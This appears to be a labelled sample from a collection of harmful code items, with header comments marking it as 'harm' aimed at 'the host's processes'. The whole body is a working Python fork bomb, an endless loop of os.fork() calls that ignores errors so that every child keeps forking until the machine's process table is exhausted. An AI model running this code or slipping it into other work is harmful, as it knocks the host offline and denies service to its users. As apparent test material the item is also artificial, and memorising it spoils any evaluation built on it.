# kind = "harm"
# goal = "the host's processes"
# trick = "forks without end, each child as well"
# mark = 0
# %%
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
